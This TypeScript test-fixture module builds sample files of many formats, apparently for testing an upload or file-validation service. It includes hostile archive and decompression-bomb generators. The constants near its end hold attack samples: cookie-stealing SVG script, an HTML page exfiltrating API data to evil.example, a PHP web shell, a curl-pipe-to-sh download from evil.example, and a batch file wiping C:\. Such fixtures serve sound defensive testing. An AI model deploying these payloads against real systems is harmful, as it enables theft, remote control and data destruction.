import { crc32, deflateRawSync } from 'node:zlib';
import sharp from 'sharp';

export const GPS_EXIF = {
  IFD0: { Make: 'TestCam', Model: 'Leaky 1' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2950/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 0/1' },
};

const canvas = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: { r: 210, g: 90, b: 40 } } });

/** A photo as a phone writes it: GPS position in EXIF, and stored sideways with orientation 6. */
export const jpegWithGps = (width = 800, height = 600) => canvas(width, height).jpeg().withMetadata({ orientation: 6 }).withExif(GPS_EXIF).toBuffer();
export const pngWithGps = (width = 400, height = 300) => canvas(width, height).png().withExif(GPS_EXIF).toBuffer();
export const png = (width = 64, height = 64) => canvas(width, height).png().toBuffer();
export const gif = () => canvas(32, 32).gif().toBuffer();
export const tiff = () => canvas(32, 32).tiff().toBuffer();

/** The GPS IFD pointer tag (0x8825) in either byte order. */
export function hasGpsTag(exif: Buffer | undefined): boolean {
  return !!exif && (exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88])));
}

function box(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + body.length, 0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([header, body]);
}

/** ftyp + moov(mvhd) + the header of an mdat of `mdatBytes`; the mdat payload is for the caller to send. */
export function mp4Head(mdatBytes: number, durationSeconds = 12): Buffer {
  const ftyp = box('ftyp', Buffer.from('isom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2mp41'));
  const mvhd = Buffer.alloc(100);
  mvhd.writeUInt32BE(1000, 12);
  mvhd.writeUInt32BE(durationSeconds * 1000, 16);
  const moov = box('moov', box('mvhd', mvhd));
  const mdat = Buffer.alloc(8);
  mdat.writeUInt32BE(8 + mdatBytes, 0);
  mdat.write('mdat', 4, 'latin1');
  return Buffer.concat([ftyp, moov, mdat]);
}

export function mp4(mdatBytes = 256 * 1024): Buffer {
  const payload = Buffer.alloc(mdatBytes);
  for (let i = 0; i < payload.length; i++) payload[i] = (i * 7) % 256;
  return Buffer.concat([mp4Head(mdatBytes), payload]);
}

export function pdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
}

export function wav(): Buffer {
  const data = Buffer.alloc(8000, 0x80);
  const h = Buffer.alloc(44);
  h.write('RIFF', 0);
  h.writeUInt32LE(36 + data.length, 4);
  h.write('WAVEfmt ', 8);
  h.writeUInt32LE(16, 16);
  h.writeUInt16LE(1, 20);
  h.writeUInt16LE(1, 22);
  h.writeUInt32LE(8000, 24);
  h.writeUInt32LE(8000, 28);
  h.writeUInt16LE(1, 32);
  h.writeUInt16LE(8, 34);
  h.write('data', 36);
  h.writeUInt32LE(data.length, 40);
  return Buffer.concat([h, data]);
}

export interface ZipEntry {
  name: string;
  data?: Buffer;
  /** Lie in the central directory about the uncompressed size. */
  declaredSize?: number;
  /** Point this entry's directory record at another entry's local header. */
  sameDataAs?: number;
}

const EMPTY = Buffer.alloc(0);
const deflatedCache = new WeakMap<Buffer, Buffer>();
function deflatedOnce(data: Buffer): Buffer {
  let deflated = deflatedCache.get(data);
  if (!deflated) deflatedCache.set(data, (deflated = deflateRawSync(data)));
  return deflated;
}

/** A zip writer small enough to build hostile archives byte by byte. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  const offsets: number[] = [];
  const records: { crc: number; compressed: number; size: number; name: Buffer }[] = [];
  let offset = 0;
  entries.forEach((entry, i) => {
    const name = Buffer.from(entry.name);
    const data = entry.data ?? EMPTY;
    const deflated = deflatedOnce(data);
    const crc = crc32(data);
    if (entry.sameDataAs === undefined) {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(8, 8);
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(deflated.length, 18);
      local.writeUInt32LE(data.length, 22);
      local.writeUInt16LE(name.length, 26);
      offsets.push(offset);
      locals.push(local, name, deflated);
      offset += 30 + name.length + deflated.length;
      records.push({ crc, compressed: deflated.length, size: data.length, name });
    } else {
      offsets.push(offsets[entry.sameDataAs]!);
      records.push({ ...records[entry.sameDataAs]!, name });
    }
    const r = records[i]!;
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(r.crc, 16);
    c.writeUInt32LE(r.compressed, 20);
    c.writeUInt32LE(entry.declaredSize ?? r.size, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(offsets[i]!, 42);
    central.push(c, name);
  });
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const CONTENT_TYPES = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

export function docx(): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')) },
    {
      name: 'word/document.xml',
      data: Buffer.from('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
    },
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A well-formed PNG that claims width × height pixels (a decompression bomb's header). */
export function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const idat = deflateRawSync(Buffer.alloc(1024));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export function elf(): Buffer {
  const b = Buffer.alloc(256);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  b.writeUInt16LE(2, 16);
  b.writeUInt16LE(0x3e, 18);
  return b;
}

export function windowsExe(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  return b;
}

export function machO(): Buffer {
  const b = Buffer.alloc(256);
  b.set([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01], 0);
  return b;
}

export function javaClass(): Buffer {
  const b = Buffer.alloc(128);
  b.set([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x41], 0);
  return b;
}

/** A DOS .com program: no header at all, just x86 code (prints and exits). */
export function dosCom(): Buffer {
  return Buffer.from([0xb4, 0x09, 0xba, 0x08, 0x01, 0xcd, 0x21, 0xc3, 0x48, 0x69, 0x24, 0x00, 0x00, 0x90, 0x90]);
}

export function bmp(): Buffer {
  const b = Buffer.alloc(70);
  b.write('BM', 0, 'latin1');
  b.writeUInt32LE(70, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(2, 18);
  b.writeInt32LE(2, 22);
  b.writeUInt16LE(1, 26);
  b.writeUInt16LE(24, 28);
  return b;
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>\n',
);
export const BARE_SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>');
export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html><html><body><script>fetch("/api/v1/me").then(r => r.text()).then(t => new Image().src = "//evil.example/?" + t)</script></body></html>',
);
export const PHP_SCRIPT = Buffer.from('<?php system($_GET["cmd"]); ?>\n');
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const BATCH_FILE = Buffer.from('@echo off\r\ndel /q C:\\*.*\r\n');
